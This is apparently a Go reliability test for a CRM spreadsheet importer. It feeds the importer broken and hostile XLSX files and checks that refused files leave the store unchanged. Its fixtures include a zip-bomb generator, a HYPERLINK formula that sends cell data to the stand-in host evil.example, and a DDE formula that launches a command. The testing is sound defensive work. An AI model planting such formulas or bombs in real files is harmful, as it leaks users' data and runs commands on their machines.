package reliability

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"crypto/sha256"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

// TestBadXLSXChangesNothing feeds the importer a corpus of broken and hostile
// workbooks. Each must end within bounded time and memory with a clear
// message (never a crash), and the ones refused must leave the store
// byte-for-byte as it was.
func TestBadXLSXChangesNothing(t *testing.T) {
	o := &outcome{Scenario: "Bad input: broken XLSX files", Tried: "merge-import of a corpus of broken workbooks into a synced sheet"}
	record(t, o)
	emu := clitestEmulator(t, "--seed-accounts", "30")
	c := newUser(t, emu)
	dir := t.TempDir()
	good := filepath.Join(dir, "good.xlsx")
	c.Must(t, "export", "--sheet", sheetName, good)

	corpus := []struct {
		name string
		make func(path string) error
		// refused files must exit 1; others may import (with problems
		// reported) or be refused. Whatever is refused must change nothing,
		// and nothing may crash or hang.
		refused bool
	}{
		{"truncated", func(p string) error { return truncated(good, p) }, true},
		{"not a zip", func(p string) error { return os.WriteFile(p, []byte("Name,Email\nAda,ada@example.com\n"), 0o644) }, true},
		{"zip bomb", zipBomb, true},
		{"password protected", passwordProtected, true},
		{"empty workbook", func(p string) error { return writeXLSX(p, nil) }, true},
		{"16k columns", sixteenKColumns, true},
		{"1M empty rows", millionEmptyRows, false},
		{"invalid UTF-8", invalidUTF8, false},
		{"formulas", formulas, false},
		{"huge cells", hugeCells, false},
	}
	o.Trials = len(corpus)
	store := filepath.Join(c.Home, "crmsheets.db")
	var failures []string
	for _, tc := range corpus {
		t.Run(tc.name, func(t *testing.T) {
			path := filepath.Join(dir, strings.ReplaceAll(tc.name, " ", "-")+".xlsx")
			if err := tc.make(path); err != nil {
				t.Fatal(err)
			}
			before := digest(t, store)
			r := c.Run(t, 3*time.Minute, "import", path, "--sheet", sheetName, "--add-new")
			after := digest(t, store)
			var problems []string
			if strings.Contains(r.Err, "goroutine ") || strings.Contains(r.Err, "panic:") {
				problems = append(problems, "crashed")
			}
			if r.MaxRSSKB > 600*1024 {
				problems = append(problems, fmt.Sprintf("used %d MB of memory", r.MaxRSSKB/1024))
			}
			if tc.refused && r.Code != 1 {
				problems = append(problems, fmt.Sprintf("exit %d, want 1 (refused)", r.Code))
			}
			if r.Code == 1 {
				if before != after {
					problems = append(problems, "the store changed")
				}
				if !strings.Contains(r.Err, "Error:") || len(r.Err) > 2000 {
					problems = append(problems, "no clear error: "+r.Err)
				}
			} else if r.Code != 0 && r.Code != 3 {
				problems = append(problems, fmt.Sprintf("exit %d: %s", r.Code, r.Err))
			}
			if r.Took > time.Minute {
				problems = append(problems, "took "+r.Took.String())
			}
			t.Logf("%s: exit %d in %s, %d MB; %s", tc.name, r.Code, r.Took.Round(time.Millisecond), r.MaxRSSKB/1024, firstLine(r.Err))
			if len(problems) > 0 {
				t.Error(strings.Join(problems, "; "))
				failures = append(failures, tc.name+": "+strings.Join(problems, "; "))
			}
		})
	}
	if len(failures) > 0 {
		o.Lost = strings.Join(failures, "; ")
		return
	}
	o.Lost = "nothing: every refused file left the store byte-for-byte unchanged, none crashed or ran unbounded"
}

func firstLine(s string) string {
	for _, l := range strings.Split(s, "\n") {
		if strings.HasPrefix(l, "Error:") {
			return l
		}
	}
	return ""
}

func digest(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return fmt.Sprintf("%x", sha256.Sum256(b))
}

func truncated(src, dst string) error {
	b, err := os.ReadFile(src)
	if err != nil {
		return err
	}
	return os.WriteFile(dst, b[:len(b)/2], 0o644)
}

// writeXLSX builds a workbook with excelize: rows of cells on one tab.
func writeXLSX(path string, rows [][]any) error {
	f := excelize.NewFile()
	defer f.Close()
	for i, row := range rows {
		cell, _ := excelize.CoordinatesToCellName(1, i+1)
		if err := f.SetSheetRow("Sheet1", cell, &row); err != nil {
			return err
		}
	}
	return f.SaveAs(path)
}

func passwordProtected(path string) error {
	f := excelize.NewFile()
	defer f.Close()
	_ = f.SetSheetRow("Sheet1", "A1", &[]any{"Email", "Job Title"})
	_ = f.SetSheetRow("Sheet1", "A2", &[]any{"ada@example.com", "Secret"})
	return f.SaveAs(path, excelize.Options{Password: "hunter2"})
}

func sixteenKColumns(path string) error {
	row := make([]any, 16384)
	for i := range row {
		row[i] = fmt.Sprintf("Column %d", i+1)
	}
	return writeXLSX(path, [][]any{row, row})
}

func formulas(path string) error {
	f := excelize.NewFile()
	defer f.Close()
	_ = f.SetSheetRow("Sheet1", "A1", &[]any{"Email", "Job Title", "Department"})
	_ = f.SetSheetRow("Sheet1", "A2", &[]any{"formula.person@example.com"})
	_ = f.SetCellFormula("Sheet1", "B2", `HYPERLINK("http://evil.example/?"&A2,"click")`)
	_ = f.SetCellFormula("Sheet1", "C2", `cmd|' /C calc'!A0`)
	return f.SaveAs(path)
}

func hugeCells(path string) error {
	return writeXLSX(path, [][]any{{"Email", "Job Title"}, {"huge.cell@example.com", strings.Repeat("x", 32000)}, {"huger@example.com", strings.Repeat("é", 30000)}})
}

// rawXLSX writes a minimal workbook package around the given sheet XML part
// and shared strings, so tests can build what no library writes.
func rawXLSX(path string, sheet func(w io.Writer) error, sharedStrings string) error {
	out, err := os.Create(path)
	if err != nil {
		return err
	}
	defer out.Close()
	zw := zip.NewWriter(out)
	zw.RegisterCompressor(zip.Deflate, func(w io.Writer) (io.WriteCloser, error) { return flate.NewWriter(w, flate.BestSpeed) })
	parts := map[string]string{
		"[Content_Types].xml":        `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>`,
		"_rels/.rels":                `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
		"xl/workbook.xml":            `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
		"xl/_rels/workbook.xml.rels": `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
		"xl/sharedStrings.xml":       sharedStrings,
	}
	for _, name := range []string{"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/sharedStrings.xml"} {
		w, err := zw.Create(name)
		if err != nil {
			return err
		}
		if _, err := io.WriteString(w, parts[name]); err != nil {
			return err
		}
	}
	w, err := zw.Create("xl/worksheets/sheet1.xml")
	if err != nil {
		return err
	}
	if err := sheet(w); err != nil {
		return err
	}
	return zw.Close()
}

const sheetHead = `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`
const noStrings = `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0" uniqueCount="0"></sst>`

// zipBomb is a few megabytes that inflate to more than 2 GB of XML
// whitespace: reading it must stop at the part limit, in bounded memory.
func zipBomb(path string) error {
	return rawXLSX(path, func(w io.Writer) error {
		io.WriteString(w, sheetHead)
		chunk := bytes.Repeat([]byte(" "), 1<<20)
		for range 2200 {
			if _, err := w.Write(chunk); err != nil {
				return err
			}
		}
		_, err := io.WriteString(w, `</sheetData></worksheet>`)
		return err
	}, noStrings)
}

// millionEmptyRows has a header and a million rows without cells, the
// shape of a sheet whose formatting reaches Excel's last row.
func millionEmptyRows(path string) error {
	return rawXLSX(path, func(w io.Writer) error {
		io.WriteString(w, sheetHead+`<row r="1"><c r="A1" t="inlineStr"><is><t>Email</t></is></c><c r="B1" t="inlineStr"><is><t>Job Title</t></is></c></row>`)
		for r := 2; r <= 1048576; r++ {
			if _, err := fmt.Fprintf(w, `<row r="%d"/>`, r); err != nil {
				return err
			}
		}
		_, err := io.WriteString(w, `</sheetData></worksheet>`)
		return err
	}, noStrings)
}

// invalidUTF8 puts bytes that are not UTF-8 in shared strings and inline
// text.
func invalidUTF8(path string) error {
	sst := `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="2" uniqueCount="2"><si><t>Email</t></si><si><t>bad ` + "\xff\xfe\xc3" + ` title</t></si></sst>`
	return rawXLSX(path, func(w io.Writer) error {
		_, err := io.WriteString(w, sheetHead+`<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="inlineStr"><is><t>Job Title</t></is></c></row>`+
			`<row r="2"><c r="A2" t="inlineStr"><is><t>utf8.person@example.com</t></is></c><c r="B2" t="s"><v>1</v></c></row></sheetData></worksheet>`)
		return err
	}, sst)
}
